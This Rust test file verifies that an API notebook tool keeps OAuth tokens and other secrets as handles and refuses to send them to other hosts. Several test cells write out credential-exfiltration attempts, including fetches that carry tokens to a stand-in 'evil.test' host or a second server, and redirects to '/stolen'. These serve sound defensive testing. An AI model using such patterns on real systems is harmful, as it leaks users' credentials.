//! Tokens and passwords are handles in JavaScript: only requests to the hosts of their client resolve them.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::{Value, json};

use crate::support::{Answer, Case, Cells, Outcome, Server};

/// A token that every notation writes differently.
const ACCESS: &str = "acc\"ess/ +1&%";
const REFRESH: &str = "refresh-77777";
const NESTED: &str = "nested-77777";

const SCHEMES: &str = "\
securitySchemes:
  - oauth_2_0:
      type: OAuth 2.0
      settings:
        accessTokenUri: AUTH/token
        authorizationGrants: [ credentials ]
  - basic:
      type: Basic Authentication
  - oauth_1_0:
      type: OAuth 1.0
      settings:
        requestTokenUri: AUTH/r
        authorizationUri: AUTH/a
        tokenCredentialsUri: AUTH/t
  - key:
      type: x-key
      describedBy:
        headers:
          X-Key:
        queryParameters:
          key:
securedBy: [ oauth_2_0 ]
/echo:
  get:
  post:
/echo/key:
  get:
    securedBy: [ key ]
/moved:
  get:
    securedBy: [ key ]
";

const SIGN_IN: &str = "API.authenticate(client, 'oauth_2_0', { clientId: 'app', clientSecret: 'shhh' })";

/// A server that signs in, echoes, and redirects `/moved` to the other one.
fn api(other: &Server) -> Server {
    let moved = other.url("/stolen");
    Server::with(move |request| match request.url.split('?').next().unwrap() {
        "/token" => {
            let body = json!({
                "access_token": ACCESS, "refresh_token": REFRESH, "token_type": "bearer", "expires_in": 3600,
                "id_token": "id-77777", "user": "ada", "session": { "Token": NESTED, "name": "n" },
            });
            Answer::new(200, "application/json", body.to_string())
        }
        "/moved" => {
            let query = request.url.split_once('?').map_or_else(String::new, |(_, query)| format!("?{query}"));
            Answer::Reply(307, vec![("Location".to_owned(), format!("{moved}{query}"))], Vec::new())
        }
        _ => Answer::new(200, "text/plain", "ok"),
    })
}

struct Servers {
    api: Server,
    other: Server,
}

impl Servers {
    fn start() -> Self {
        let other = Server::start();
        Self { api: api(&other), other }
    }

    /// A notebook that signs in, then has these cells; `API` and `OTHER` are the addresses of the servers.
    fn case(&self, cells: &[&str]) -> Case {
        self.unsigned(&[&["API.createClient('client', 'api.raml')", SIGN_IN], cells].concat())
    }

    /// The same without the sign-in.
    fn unsigned(&self, cells: &[&str]) -> Case {
        let fill = |text: &str| text.replace("API/", &self.api.url("/")).replace("OTHER/", &self.other.url("/"));
        let raml = format!("#%RAML 0.8\ntitle: T\nbaseUri: {}\n{SCHEMES}", self.api.url(""));
        Case::cells(cells.iter().map(|cell| fill(cell)))
            .file("api.raml", raml.replace("AUTH", &self.api.url("")))
            .args(["--no-token-cache", "-v"])
    }

    /// Runs a notebook whose last cell is refused.
    #[track_caller]
    fn refuses(&self, case: Case, error: &str) -> Outcome {
        let outcome = case.run();
        outcome.exit(3);
        let last = outcome.report()["notebooks"][0]["cells"].as_array().map_or(0, Vec::len) - 1;
        assert!(outcome.cell(last).error().contains(error), "{}", outcome.cell(last).error());
        assert_eq!(self.other.requests().len(), 0, "something arrived elsewhere");
        for secret in [ACCESS, REFRESH, NESTED] {
            outcome.contains_nowhere(secret, &[]);
        }
        outcome
    }
}

#[test]
fn published_notebooks_pass_tokens_on_unchanged() {
    let servers = Servers::start();
    let outcome = servers
        .case(&[
            "client.echo.get({ access_token: $1.accessToken }).status",
            "client.echo.get({}, { headers: { Authorization: 'OAuth ' + $1.accessToken } }).status",
            "client.echo.post({ token: $1.accessToken }).status",
            "client.echo.post('token=' + encodeURIComponent($1.accessToken), \
             { headers: { 'Content-Type': 'application/x-www-form-urlencoded' } }).status",
            "form = new FormData(); form.append('token', $1.accessToken); client.echo.post(form).status",
            "client.echo.get({}, { headers: { Authorization: 'Basic ' + btoa('me:' + $1.refreshToken) } }).status",
            "(await fetch('API/echo?t=' + $1.accessToken, { headers: { 'X-T': $1.refreshToken } })).status",
            "(await fetch('API/echo', { method: 'POST', body: JSON.stringify({ t: $1.accessToken }) })).status",
            "x = new XMLHttpRequest(); x.open('GET', 'API/echo/' + $1.refreshToken, false); x.send(); x.status",
            "API.set(client, 'query', { t: $1.accessToken }); client.echo.get().status",
            "(await fetch('API/echo', { method: 'POST', body: new URLSearchParams({ t: $1.accessToken }) })).status",
        ])
        .run();
    outcome.exit(0);
    for secret in [ACCESS, REFRESH, NESTED, "apinbsecret"] {
        outcome.contains_nowhere(secret, &[]);
    }
    let requests = servers.api.requests();
    let [query, header, json, form, multipart, basic, fetched, fetched_json, xhr, set, parameters] = &requests[1..]
    else {
        panic!("{} requests", requests.len())
    };
    let percent = "acc%22ess%2F%20%2B1%26%25";
    assert_eq!(query.url, format!("/echo?access_token={percent}"));
    assert_eq!(header.header("authorization").map(str::as_bytes).map(<[u8]>::len), Some(6 + ACCESS.len()));
    assert_eq!(serde_json::from_str::<Value>(&json.text()).unwrap(), json!({ "token": ACCESS }));
    assert_eq!(form.text(), format!("token={percent}"));
    assert!(multipart.text().contains(&format!("\r\n\r\n{ACCESS}\r\n")), "{}", multipart.text());
    assert_eq!(multipart.header("content-length"), Some(multipart.body.len().to_string().as_str()));
    let credentials = format!("Basic {}", STANDARD.encode(format!("me:{REFRESH}")));
    assert_eq!(basic.header("authorization"), Some(credentials.as_str()));
    assert_eq!((fetched.url.as_str(), fetched.header("x-t")), (format!("/echo?t={percent}").as_str(), Some(REFRESH)));
    assert_eq!(serde_json::from_str::<Value>(&fetched_json.text()).unwrap(), json!({ "t": ACCESS }));
    assert_eq!(xhr.url, format!("/echo/{REFRESH}"));
    assert_eq!(set.url, format!("/echo?t={percent}"));
    assert_eq!(parameters.text(), format!("t={percent}"));
}

#[test]
fn javascript_cannot_read_a_token() {
    let servers = Servers::start();
    let outcome = servers
        .case(&[
            "JSON.stringify($1).includes('77777')",
            "/^apinbsecret[a-z2-7]{32}$/.test($1.accessToken) && /^apinbsecret[a-z2-7]{32}$/.test($1.refreshToken)",
            "JSON.parse($1.session)",
            "[$1.user, $1.tokenType, $1.id_token]",
            "API.authenticate(client, 'basic', { username: 'ada', password: 'lovelace' }).password.length",
            "API.authenticate(client, 'basic', { username: 'key-77777', password: '' }).username.length",
            "API.authenticate(client, 'key', { headers: { 'X-Key': 'k-77777' } })['X-Key'].length",
            "API.authenticate(client, 'oauth_1_0', { consumerKey: 'k', consumerSecret: 's', accessToken: 't-1', \
             accessTokenSecret: 't-2' }).accessTokenSecret.length",
            "API.authenticate(client, 'oauth_2_0', { accessToken: $1.accessToken }).accessToken === $1.accessToken",
        ])
        .run();
    outcome.exit(0);
    let expected = [
        "false",
        "true",
        "{ Token: \"[secret]\", name: \"n\" }",
        "[ \"ada\", \"bearer\", \"[secret]\" ]",
        "43",
        "43",
        "43",
        "43",
        "true",
    ];
    for (number, expected) in expected.iter().enumerate() {
        outcome.cell(number + 2).is(expected);
    }
}

/// A notebook that renews a token itself gets no other token than a handle.
#[test]
fn the_token_endpoint_gives_handles_as_well() {
    let servers = Servers::start();
    let renew = "r = await fetch('API/token', { method: 'POST', body: new URLSearchParams({ t: $1.refreshToken }) }); \
                 t = await r.json(); [t.access_token.length, t.refresh_token.length, t.session.Token.length, t.user]";
    let outcome = servers.case(&[renew, "await fetch('OTHER/?' + t.access_token)"]);
    servers.refuses(outcome, "the access_token of `client`").cell(2).is("[ 43, 43, 43, \"ada\" ]");
}

#[test]
fn a_token_does_not_leave_for_another_host() {
    for (call, kind) in [
        ("await fetch('OTHER/', { method: 'POST', body: JSON.stringify($1) })", "access token"),
        ("await fetch('OTHER/?' + $1.refreshToken)", "refresh token"),
        ("await fetch('OTHER/', { headers: { a: $1.id_token } })", "`client`"),
        (
            "await fetch('OTHER/', { headers: { Authorization: 'Basic ' + btoa('a:' + $1.accessToken) } })",
            "access token",
        ),
        ("await fetch('OTHER/', { method: 'POST', body: $1.session })", "`client`"),
        ("await fetch('http://' + $1.accessToken + '.evil.test/')", "access token"),
        (
            "x = new XMLHttpRequest(); x.open('GET', 'OTHER/' + $1.accessToken); x.send(); await new Promise(() => {})",
            "",
        ),
        ("client.echo.get({ t: $1.accessToken }, { baseUri: 'OTHER/' })", "credentials of `client`"),
        ("client.echo.get({}, { baseUri: 'OTHER/' })", "credentials of `client`"),
        (
            "API.createClient('other', 'other.raml'); API.authenticate(other, 'o', { accessToken: $1.accessToken })",
            "access token",
        ),
        ("API.createClient('other', 'other.raml'); other.a.get({ t: $1.accessToken })", "access token"),
        ("API.createClient('x', 'OTHER/?' + $1.accessToken)", "access token"),
        ("load('OTHER/' + $1.accessToken)", "access token"),
    ] {
        let servers = Servers::start();
        let other = "#%RAML 0.8\ntitle: O\nbaseUri: OTHER\nsecuritySchemes:\n  - o:\n      type: OAuth 2.0\n      \
                     settings: { accessTokenUri: 'OTHER/token', authorizationGrants: [ credentials ] }\n/a:\n  get:\n";
        let case = servers.case(&[call]).file("other.raml", other.replace("OTHER", &servers.other.url("")));
        if kind.is_empty() {
            // An event reports it; the promise never settles.
            case.run();
            assert_eq!(servers.other.requests().len(), 0, "{call}");
            continue;
        }
        servers.refuses(case, kind);
    }
}

#[test]
fn a_refusal_names_the_secret_the_host_and_the_way_out() {
    let servers = Servers::start();
    let outcome = servers.refuses(servers.case(&["await fetch('OTHER/?t=' + $1.accessToken)"]), "PolicyError");
    let host = servers.other.url("");
    let cell = outcome.cell(2);
    assert!(
        cell.error().contains(&format!("the access token of `client` may not be sent to `{host}`")),
        "{}",
        cell.error()
    );
    assert_eq!(cell.help(), "Pass `--base-uri client=URL` if the API of `client` is at this host.");
    for call in [
        "client.echo.post({ t: btoa($1.accessToken) })",
        "client.echo.post({ t: $1.accessToken.toUpperCase() })",
        "client.echo.get({ t: [...new TextEncoder().encode($1.accessToken)].map((b) => b.toString(16)).join('') })",
    ] {
        let outcome = servers.refuses(servers.case(&[call]), "PolicyError");
        let help =
            "Set `expose = true` in `[clients.client]` of apinb.toml to let the notebook read the secrets of `client`.";
        assert_eq!(outcome.cell(2).help(), help);
    }
}

#[test]
fn expose_gives_the_secrets_to_the_notebook() {
    let servers = Servers::start();
    let cells = ["$1.accessToken.length", "client.echo.post({ t: btoa($1.refreshToken) }).status"];
    let case = servers.case(&cells).file("apinb.toml", "[clients.client]\nexpose = true\n");
    let outcome = case.run();
    outcome.exit(0).cell(2).is(&ACCESS.encode_utf16().count().to_string());
    outcome.contains_nowhere(REFRESH, &[]);
    let sent = servers.api.requests().pop().unwrap();
    assert!(sent.text().contains(&STANDARD.encode(REFRESH)), "{}", sent.text());
    servers.case(&cells).file("apinb.toml", "[clients.client]\nexpose = false\n").run().exit(3).cell(2).is("43");
}

#[test]
fn tokens_and_options_of_the_user_are_handles_and_bound() {
    let servers = Servers::start();
    let create = "API.createClient('client', 'api.raml')";
    let authenticate = "t = API.authenticate(client); t.accessToken.length";
    let leak = "await fetch('OTHER/?' + t.accessToken)";
    let token = servers.unsigned(&[create, authenticate, "client.echo.get().status", leak]);
    let outcome = servers.refuses(token.args(["--token", "client=user-77777"]), "access token of `client`");
    outcome.cell(1).is("43").cell(2).is("200");
    outcome.contains_nowhere("user-77777", &["argv"]);
    assert_eq!(servers.api.requests()[0].header("authorization"), Some("Bearer user-77777"));

    let servers = Servers::start();
    let basic = "t = API.authenticate(client, 'basic'); t.password.length";
    let cells = [create, basic, "await fetch('OTHER/?' + t.password)"];
    let case = servers.unsigned(&cells).args(["--auth", "client.username=ada", "--auth", "client.password=p-77777"]);
    servers.refuses(case, "the password of `client`").cell(1).is("43");

    let elsewhere = "client.echo.get({}, { baseUri: 'OTHER/' })";
    let case = servers.unsigned(&[create, elsewhere]).args(["--token", "client=user-77777"]);
    servers.refuses(case, "credentials of `client`");
}

#[test]
fn what_the_notebook_has_itself_it_sends_anywhere() {
    let servers = Servers::start();
    let outcome = servers
        .unsigned(&[
            "API.createClient('client', 'api.raml', { baseUri: 'OTHER/echo' })",
            "API.authenticate(client, 'oauth_2_0', { accessToken: 'literal' }); 1",
            "client.echo.get().body.headers.find((header) => header[0] === 'authorization')[1].length",
        ])
        .run();
    outcome.exit(0).cell(2).is("14");
}

#[test]
fn the_user_names_the_host_of_a_parameter() {
    let servers = Servers::start();
    let host = servers.other.url("").replace("http://", "");
    let (name, port) = host.split_once(':').unwrap();
    let raml = "#%RAML 0.8\ntitle: T\nbaseUri: http://{host}:PORT/echo\n/a:\n  get:\n    securedBy: [ key ]\n\
                securitySchemes:\n  - key:\n      type: x-key\n      describedBy: { headers: { X-Key: } }\n";
    let raml = raml.replace("PORT", port);
    let cells = [
        "HOST = prompt('Host?')",
        "API.createClient('client', 'api.raml', { baseUriParameters: { host: HOST } })",
        "API.authenticate(client, 'key'); 1",
        "client.a.get().status",
    ];
    let case = |cells: &[&str]| {
        let auth = ["--auth", "client.header.X-Key=k-77777", "--no-token-cache"];
        Case::cells(cells).file("api.raml", &raml).args(auth)
    };
    case(&cells).args(["--input", &format!("HOST={name}")]).run().exit(0).cell(3).is("200");
    assert_eq!(servers.other.requests().pop().unwrap().header("x-key"), Some("k-77777"));
    let of_notebook = format!("HOST = '{name}'");
    let outcome = case(&[&[of_notebook.as_str()], &cells[1..]].concat()).run();
    outcome.exit(3).cell(3).fails("the credentials of `client` may not be sent to");
    let named = case(&[&[of_notebook.as_str()], &cells[1..]].concat());
    named.args(["--base-uri", &format!("client=http://{host}/echo")]).run().exit(0).cell(3).is("200");
}

#[test]
fn the_response_of_a_sign_in_names_hosts() {
    let other = Server::start();
    let instance = other.url("");
    let api = Server::with(move |_| {
        let body = json!({ "access_token": "acc-77777", "instance_url": instance });
        Answer::new(200, "application/json", body.to_string())
    });
    let raml = format!(
        "#%RAML 0.8\ntitle: T\nbaseUri: '{{instance_url}}/echo'\nsecuritySchemes:\n  - o:\n      type: OAuth 2.0\n      \
         settings: {{ accessTokenUri: '{}', authorizationGrants: [ credentials ] }}\nsecuredBy: [ o ]\n/a:\n  get:\n",
        api.url("/token")
    );
    let outcome = Case::cells([
        "API.createClient('client', 'api.raml')",
        "T = API.authenticate(client, { clientId: 'a', clientSecret: 'b' })",
        "API.set(client, 'baseUriParameters', { instance_url: T.instance_url })",
        "(await fetch(T.instance_url + '/echo', { headers: { Authorization: 'Bearer ' + T.accessToken } })).status",
    ])
    .file("api.raml", raml)
    .args(["--no-token-cache"])
    .run();
    outcome.exit(0).cell(3).is("200");
    assert_eq!(other.requests().pop().unwrap().header("authorization"), Some("Bearer acc-77777"));
}

#[test]
fn a_redirect_drops_what_apinb_added_and_handles() {
    let servers = Servers::start();
    let authenticate =
        "API.authenticate(client, 'key', { headers: { 'X-Key': 'k-77777' }, query: { key: 'q-77777' } })";
    let outcome = servers
        .case(&[
            authenticate,
            "client.moved.get({ page: 1 }, { headers: { 'X-Mine': 'mine', 'X-Token': $1.accessToken } }).status",
        ])
        .run();
    outcome.exit(0).cell(3).is("404");
    let first = servers.api.requests().pop().unwrap();
    assert_eq!((first.url.as_str(), first.header("x-key")), ("/moved?page=1&key=q-77777", Some("k-77777")));
    assert!(first.header("x-token").is_some());
    let moved = servers.other.requests().pop().unwrap();
    assert_eq!((moved.url.as_str(), moved.header("x-mine")), ("/stolen?page=1", Some("mine")));
    for name in ["x-key", "x-token", "authorization", "cookie"] {
        assert_eq!(moved.header(name), None, "{name}");
    }
    // A body with a handle does not follow.
    let servers = Servers::start();
    let post = "await fetch('API/moved', { method: 'POST', body: $1.accessToken })";
    servers.refuses(servers.case(&[post]), "access token of `client`");
}

#[test]
fn answers_from_variables_and_files_are_handles() {
    let servers = Servers::start();
    let toml = "[inputs]\nSECRET = { env = \"TEST_SECRET\" }\nPATH = { file = \"path.txt\" }\nPLAIN = \"plain\"\n";
    let case = |cells: &[&str]| {
        let prompts =
            "SECRET = prompt('?'); PATH = prompt('?'); PLAIN = prompt('?'); [SECRET.length, PATH.length, PLAIN]";
        let cells = [&["API.createClient('client', 'api.raml')", prompts], cells].concat();
        let case = servers.unsigned(&cells).file("apinb.toml", toml).file("path.txt", "p-77777\n");
        case.env("TEST_SECRET", "shhh-77777")
    };
    let outcome = case(&[
        "API.authenticate(client, 'oauth_2_0', { clientId: 'app', clientSecret: SECRET }); 1",
        "client('/echo/' + PATH).get({ s: SECRET }).status",
    ])
    .run();
    outcome.exit(0).cell(1).is("[ 43, 43, \"plain\" ]");
    let requests = servers.api.requests();
    let credentials = format!("Basic {}", STANDARD.encode("app:shhh-77777"));
    assert_eq!(requests[0].header("authorization"), Some(credentials.as_str()));
    assert_eq!(requests[1].url, "/echo/p-77777?s=shhh-77777");
    let elsewhere = case(&["await fetch('OTHER/?' + SECRET)"]);
    servers.refuses(elsewhere, "the secret `SECRET` may not be sent to");
    let without_client = servers.unsigned(&["S = prompt('?')", "(await fetch('OTHER/echo?' + S)).status"]);
    let without_client = without_client.file("apinb.toml", "[inputs]\nS = { env = \"TEST_SECRET\" }\n");
    without_client.env("TEST_SECRET", "shhh-77777").run().exit(0).cell(1).is("200");
    assert_eq!(servers.other.requests().pop().unwrap().url, "/echo?shhh-77777");
}

#[test]
fn mocked_runs_have_the_same_handles() {
    let servers = Servers::start();
    let outcome = servers
        .case(&["$1.accessToken.length", "client.echo.get({ t: $1.accessToken }).status"])
        .args(["--mock"])
        .run();
    outcome.exit(0).cell(2).is("43");
    assert_eq!(servers.api.requests().len() + servers.other.requests().len(), 0);
}

/// A notebook that names the same authorization server and client, but another API, scheme or tenant.
#[test]
fn kept_tokens_are_for_the_same_server_and_hosts_only() {
    let servers = Servers::start();
    let data = tempfile::tempdir().unwrap();
    let api = servers.api.url("");
    let run = |base_uri: &str, token_uri: &str, options: &str| {
        let raml = format!(
            "#%RAML 0.8\ntitle: T\nbaseUri: {base_uri}\nsecuritySchemes:\n  - o:\n      type: OAuth 2.0\n      settings:\n        \
             accessTokenUri: {token_uri}\n        authorizationGrants: [credentials]\n        scopes: [read]\n/a:\n  get:\n"
        );
        let authenticate = format!("T = API.authenticate(x, 'o', {options}); T.accessToken.length");
        Case::cells(["API.createClient('x', 'api.raml')", &authenticate])
            .file("api.raml", raml)
            .env("APINB_DATA_DIR", data.path().to_str().unwrap())
            .run()
    };
    let (secret, without) = ("{ clientId: 'app', clientSecret: 'shhh' }", "{ clientId: 'app' }");
    run(&api, &format!("{api}/token"), secret).exit(0);
    assert_eq!(servers.api.requests().len(), 1);
    run(&format!("{api}/v2"), &format!("{api}/token"), without).exit(0).cell(1).is("43");
    assert_eq!(servers.api.requests().len(), 1, "the kept token is used");
    let secure = api.replace("http:", "https:");
    for (base_uri, token_uri) in [
        (servers.other.url(""), format!("{api}/token")),
        (api.clone(), format!("{api}/tenant/token")),
        (api.clone(), format!("{secure}/token")),
        (secure.clone(), format!("{api}/token")),
        ("http://{host}".to_owned(), format!("{api}/token")),
    ] {
        let outcome = run(&base_uri, &token_uri, without);
        outcome.exit(1).cell(1).fails("signing in with `o`");
    }
    assert!(servers.api.requests().iter().skip(1).all(|request| !request.text().contains(REFRESH)));
}

#[test]
fn a_url_with_a_password_is_not_fetched() {
    let mut cells = Cells::without_client(Server::start());
    for url in ["http://user:pass@127.0.0.1/", "http://user@127.0.0.1/", "http://:pass@127.0.0.1/"] {
        for code in [format!("fetch('{url}')"), format!("new Request('{url}')")] {
            let error = cells.error(&code);
            assert!(error.starts_with("TypeError: Request: the URL includes a user name or a password"), "{error}");
            assert!(!error.contains("pass@"), "{error}");
        }
    }
}

/// A notebook with a client at `base`, and a prompt that a variable answers: the notebook gets a handle of the secret.
fn with_a_secret(base: &str, secret: &str, cells: &[String]) -> Outcome {
    let first = "API.createClient('client', 'api.raml'); KEY = prompt('key'); undefined".to_owned();
    let cells: Vec<&String> = std::iter::once(&first).chain(cells).collect();
    Case::cells(cells)
        .file("api.raml", format!("#%RAML 0.8\ntitle: t\nbaseUri: {base}\n/a:\n  get:\n"))
        .file("apinb.toml", "[inputs]\nKEY = { env = \"THE_SECRET\" }\n")
        .env("THE_SECRET", secret)
        .run()
}

#[test]
fn errors_show_a_notebook_no_secrets() {
    // A secret that could be a name of a host: letter by letter, so that it is not redacted in the result.
    for secret in ["abc123secret456", "AbC123Secret456"] {
        let errors = [
            "fetch('https://' + KEY + '.evil.test/').catch((error) => [...error.message].join(' '))",
            "fetch('https://' + KEY).catch((error) => [...error.message].join(' '))",
            "x = new XMLHttpRequest(); x.open('GET', 'https://' + KEY + '.evil.test/', false); \
             try { x.send() } catch (error) { [...error.message].join(' ') }",
            "try { load('https://' + KEY + '.evil.test/a.js') } catch (error) { [...error.message, ...error.help ?? ''].join(' ') }",
            "try { API.createClient('x', 'https://' + KEY + '.evil.test/a.raml') } catch (error) { [...error.message, ...error.help ?? ''].join(' ') }",
            "try { client('/a').get({}, { baseUri: 'https://' + KEY + '.evil.test' }) } catch (error) { [...error.message].join(' ') }",
        ];
        let outcome = with_a_secret("https://api.test", secret, &errors.map(str::to_owned));
        outcome.exit(3);
        let spelled: String = secret.to_lowercase().chars().flat_map(|letter| [letter, ' ']).collect();
        for number in 1..=errors.len() {
            let result = outcome.cell(number).cell["result_full"].to_string().to_lowercase();
            assert!(result.contains("m a y   n o t   b e"), "{number}: {result}");
            assert!(!result.contains(spelled.trim()), "{number}: {result}");
        }
    }
}

#[test]
fn a_redirect_that_has_a_secret_in_it_is_not_followed() {
    let other = Server::start();
    let to = other.url("/stolen");
    // An open redirect: it goes wherever its caller wants.
    let api = Server::with(move |request| {
        let query = request.url.split_once('?').map_or("", |(_, query)| query);
        Answer::Reply(302, vec![("Location".to_owned(), format!("{to}?{query}"))], Vec::new())
    });
    let cells = [
        format!("fetch('{}?next=' + KEY).catch((error) => error.name)", api.url("/go")),
        format!("client.a.get({{ next: KEY }}, {{ baseUri: '{}' }})", api.url("")),
        format!("(await fetch('{}?next=nothing')).status", api.url("/go")),
    ];
    let outcome = with_a_secret(&api.url(""), "a secret/77777+", &cells);
    outcome.exit(3);
    outcome.cell(1).is("\"PolicyError\"");
    outcome.cell(2).fails("the secret `KEY` may not be sent to `http://127.0.0.1");
    outcome.cell(3).is("404");
    let urls: Vec<String> = other.requests().into_iter().map(|request| request.url).collect();
    assert_eq!(urls, ["/stolen?next=nothing"]);
}
